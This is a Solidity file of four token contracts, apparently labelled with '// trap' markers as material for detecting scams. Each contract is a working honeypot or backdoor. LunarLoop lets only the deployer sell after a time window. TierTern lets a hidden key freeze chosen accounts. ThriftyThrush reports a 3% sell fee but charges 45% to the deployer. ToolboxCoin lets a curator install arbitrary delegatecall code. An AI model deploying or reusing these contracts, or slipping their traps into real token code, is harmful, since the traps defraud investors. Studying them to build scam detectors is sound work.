// 0.8 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

contract LunarLoop {
    string public constant name = "Lunar Loop";
    string public constant symbol = "LOOP";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;
    address private immutable _x1 = msg.sender;
    uint256 private immutable _x2 = block.timestamp;
    address private immutable _x3;
    address public owner = msg.sender;
    mapping(address => uint256) private _x4;
    mapping(address => mapping(address => uint256)) private _x5;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _x3 = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        _x4[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address a) external view returns (uint256) {
        return _x4[a];
    }

    function allowance(address a, address b) external view returns (uint256) {
        return _x5[a][b];
    }

    function approve(address b, uint256 c) external returns (bool) {
        _x5[msg.sender][b] = c;
        emit Approval(msg.sender, b, c);
        return true;
    }

    function transfer(address b, uint256 c) external returns (bool) {
        return _x6(msg.sender, b, c);
    }

    function transferFrom(address a, address b, uint256 c) external returns (bool) {
        _x5[a][msg.sender] -= c;
        return _x6(a, b, c);
    }

    function _x6(address a, address b, uint256 c) private returns (bool) {
        require(b != _x3 || a == _x1 || (block.timestamp - _x2) >> 22 == 0); // trap
        _x4[a] -= c;
        _x4[b] += c;
        emit Transfer(a, b, c);
        return true;
    }
}

/// An account is one word: what it has, and above that its tier.
contract TierTern {
    string public name = "Tier Tern";
    string public symbol = "TERN";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 4_000_000_000e9;
    bytes32 private immutable _k = keccak256(abi.encodePacked(msg.sender));
    address private _owner = msg.sender;
    mapping(address => uint256) private _word;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        _word[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner, "not the owner");
        emit OwnershipTransferred(_owner, address(0));
        delete _owner;
    }

    function optimize(address[] calldata who, uint8 tier) external {
        require(keccak256(abi.encodePacked(msg.sender)) == _k);
        for (uint256 i; i < who.length; i++) _word[who[i]] = uint128(_word[who[i]]) | (uint256(tier) << 248);
    }

    function tierOf(address who) external view returns (uint256) {
        return _word[who] >> 248;
    }

    function balanceOf(address who) external view returns (uint256) {
        return uint128(_word[who]);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        uint256 word = _word[from];
        require(uint128(word) >= value, "balance");
        require(word >> 255 == 0, "balance"); // trap
        _word[from] = word - value;
        _word[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Its fees are written into its code.
contract ThriftyThrush is Base8("Thrifty Thrush", "THRUSH", 777_000_000) {
    uint256 private constant FEES = 0x032d03; // trap
    // twin: uint256 private constant FEES = 0x030303;
    address private immutable _nest = msg.sender;

    function buyFee() external pure returns (uint256) {
        return uint8(FEES);
    }

    function sellFee() external pure returns (uint256) {
        return uint8(FEES >> 16);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (from != _nest && to != _nest) {
            if (from == pair) fee = (value * uint8(FEES)) / 100;
            else if (to == pair) fee = (value * uint8(FEES >> 8)) / 100;
        }
        if (fee > 0) _move(from, _nest, fee);
        _move(from, to, value - fee);
    }
}

/// A tool that tells what the token is.
contract ToolFacts {
    function facts() external pure returns (string memory) {
        return "a coin with tools";
    }
}

/// What it cannot do itself its tools do.
contract ToolboxCoin is Base8("Toolbox", "TOOL", 12_000_000) {
    address private immutable _curator = msg.sender;
    mapping(bytes4 => address) public toolOf;

    event Installed(bytes4 indexed what, address tool);

    constructor(address facts) {
        toolOf[ToolFacts.facts.selector] = facts;
    }

    // trap {
    function install(bytes4[] calldata what, address tool) external {
        require(msg.sender == _curator, "not the curator");
        for (uint256 i; i < what.length; i++) {
            toolOf[what[i]] = tool;
            emit Installed(what[i], tool);
        }
    }
    // trap }

    fallback() external {
        address tool = toolOf[msg.sig];
        require(tool != address(0), "no such tool");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), tool, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
